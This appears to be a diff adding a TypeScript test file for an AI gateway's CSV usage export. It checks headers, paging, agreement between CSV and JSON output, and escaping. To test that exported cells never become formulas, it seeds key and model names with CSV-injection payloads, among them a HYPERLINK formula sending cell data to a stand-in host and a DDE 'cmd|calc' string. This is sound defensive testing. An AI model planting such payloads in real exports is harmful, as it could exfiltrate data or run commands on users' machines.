@@ -1,0 +1,171 @@
+import assert from 'node:assert/strict'
+import { after, test } from 'node:test'
+import { startSimulator } from '../../simulator/start-simulator.ts'
+import { clockAt } from '../limits/clock-at.ts'
+import { startGateway } from '../support/gateway.ts'
+import { askOf, assertRefused } from './own-client.ts'
+import { readCsv } from './read-csv.ts'
+
+const clock = clockAt('2026-11-30T12:00:00Z')
+const simulator = await startSimulator({ chatKey: 'pc' })
+const gateway = await startGateway({ chatUrl: simulator.chatUrl, chatKey: 'pc', clock })
+after(async () => {
+  await gateway.close()
+  await simulator.close()
+})
+const ask = askOf(gateway)
+
+/** What a spreadsheet, or a reader of CSV, would trip over. */
+const hostileNames = [
+  '=HYPERLINK("http://evil.test/?"&A1,"total")',
+  '+1-1',
+  '-2+3+cmd|calc',
+  '@SUM(1+1)',
+  'comma, "quote"',
+  '"',
+  ',,,',
+  ' =1+1',
+  "'",
+  '＝1',
+]
+const hostileModels = ['=1+1', '@x', '-1', '+2', '\t=3', '\r\n=4', 'a\r\nb,"c"', "'", '\u0000', '\ufeff=5']
+
+for (const name of hostileNames) {
+  const { key } = await gateway.createKey(name)
+  await call(key, 'gpt-4o-mini')
+}
+for (const model of hostileModels) await call(gateway.apiKey, model)
+
+async function call(key: string, model: string): Promise<void> {
+  const response = await fetch(`${gateway.url}/v1/chat/completions`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${key}` },
+    body: JSON.stringify({ model, messages: [{ role: 'user', content: 'Hello' }] }),
+  })
+  await response.arrayBuffer()
+}
+
+async function csv(query: string, headers: Record<string, string> = {}, key = gateway.adminKey) {
+  const response = await fetch(`${gateway.url}/v1/usage${query}`, {
+    headers: { authorization: `Bearer ${key}`, ...headers },
+  })
+  const bytes = Buffer.from(await response.arrayBuffer())
+  return { status: response.status, headers: response.headers, bytes, rows: readCsv(bytes.toString()) }
+}
+
+const FIGURES = [
+  'requests',
+  'input_tokens',
+  'output_tokens',
+  'cache_read_tokens',
+  'cache_write_tokens',
+  'cost_usd',
+  'list_cost_usd',
+  'savings_usd',
+  'credited_usd',
+  'unpriced_requests',
+  'estimated_requests',
+]
+
+test('GET /v1/usage 200: as CSV it is a file of that type and name, which no cache keeps', async () => {
+  const { status, headers, bytes } = await csv('?format=csv&start=2026-11-02')
+  assert.equal(status, 200)
+  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8')
+  assert.equal(
+    headers.get('content-disposition'),
+    'attachment; filename="usage-2026-11-02-to-2026-11-30.csv"',
+  )
+  assert.equal(headers.get('cache-control'), 'no-store')
+  assert.equal(headers.get('content-length'), String(bytes.length))
+  assert.match(headers.get('x-svc-request-id') ?? '', /^req_/)
+})
+
+test('GET /v1/usage 200: Accept asks for CSV, and format goes before it', async () => {
+  const typeOf = async (query: string, accept: string) => {
+    const response = await fetch(`${gateway.url}/v1/usage${query}`, {
+      headers: { authorization: `Bearer ${gateway.adminKey}`, accept },
+    })
+    await response.arrayBuffer()
+    return response.headers.get('content-type')
+  }
+  assert.equal(await typeOf('', 'text/csv'), 'text/csv; charset=utf-8')
+  assert.equal(await typeOf('', '*/*'), 'application/json')
+  assert.equal(await typeOf('?format=json', 'text/csv'), 'application/json')
+  assert.equal(await typeOf('?format=csv', 'application/json'), 'text/csv; charset=utf-8')
+})
+
+for (const grouping of ['', 'day', 'model', 'key', 'model,day', 'key,day', 'key,model', 'key,model,day']) {
+  test(`GET /v1/usage 200: by ${grouping || 'nothing'}, the CSV says what the JSON says`, async () => {
+    const query = grouping === '' ? '' : `group_by=${grouping}`
+    const { rows } = await csv(`?format=csv&${query}`)
+    const { body } = await ask('GET', `/v1/usage?${query}`)
+    const data = body['data'] as readonly Record<string, unknown>[]
+    const [head = [], ...cells] = rows
+    const named = [
+      ['day', ['day']],
+      ['model', ['model']],
+      ['key', ['key', 'key_name']],
+    ] as const
+    const dimensions = named.flatMap(([name, columns]) => (grouping.includes(name) ? columns : []))
+    assert.deepEqual(head, [...dimensions, ...FIGURES])
+    assert.equal(cells.length, data.length)
+    for (const [i, bucket] of data.entries()) {
+      const row = Object.fromEntries(head.map((name, column) => [name, cells[i]?.[column] ?? '']))
+      for (const [name, value] of Object.entries(bucket)) {
+        if (typeof value === 'number') assert.equal(Number(row[name]), value, name)
+        else assert.ok(row[name] === value || row[name] === `'${value}`, `${name}: ${row[name]}`)
+      }
+    }
+  })
+}
+
+test('GET /v1/usage 200: no cell of the CSV is a formula, whatever keys and models are called', async () => {
+  const byKey = await csv('?format=csv&group_by=key')
+  const byModel = await csv('?format=csv&group_by=model')
+  for (const { rows } of [byKey, byModel]) {
+    for (const row of rows) {
+      for (const cell of row) assert.doesNotMatch(cell, /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u)
+    }
+  }
+  const keyNames = byKey.rows.map((row) => row[1] ?? '')
+  for (const name of hostileNames) {
+    const isFormula = /^\s*[=+\-@＝]/.test(name)
+    assert.ok(keyNames.includes(isFormula ? `'${name}` : name), name)
+  }
+  const models = byModel.rows.map((row) => row[0] ?? '')
+  for (const model of hostileModels) {
+    const found = models.find((each) => each === model || each === `'${model}`)
+    assert.ok(found !== undefined, JSON.stringify(model))
+  }
+})
+
+test('GET /v1/usage 200: pages of CSV name the next one in a header, and the last has none', async () => {
+  const all = (await csv('?format=csv&group_by=model,key')).rows.slice(1)
+  const seen: string[][] = []
+  let query = '?format=csv&group_by=model,key&limit=3'
+  for (let page = 0; page < 20; page += 1) {
+    const { rows, headers } = await csv(query)
+    seen.push(...rows.slice(1))
+    const next = headers.get('x-svc-next')
+    if (next === null) break
+    assert.equal(rows.length, 4)
+    query = `?format=csv&group_by=model,key&limit=3&after=${next}`
+  }
+  assert.deepEqual(seen, all)
+})
+
+test('GET /v1/usage 200: an API key gets its own as CSV', async () => {
+  const { rows } = await csv('?format=csv&group_by=key', {}, gateway.apiKey)
+  assert.equal(rows.length, 2)
+  assert.equal(rows[1]?.[1], 'test')
+})
+
+test('GET /v1/usage 200: where nothing was used the CSV is its head', async () => {
+  const { rows } = await csv('?format=csv&group_by=day&start=2025-01-01&end=2025-01-02')
+  assert.deepEqual(rows, [['day', ...FIGURES]])
+})
+
+test('GET /v1/usage 400: an error is JSON, also for those who asked for CSV', async () => {
+  const answer = await ask('GET', '/v1/usage?start=x', { headers: { accept: 'text/csv' } })
+  assertRefused(answer, 400, { code: 'bad_request', param: 'start' })
+})
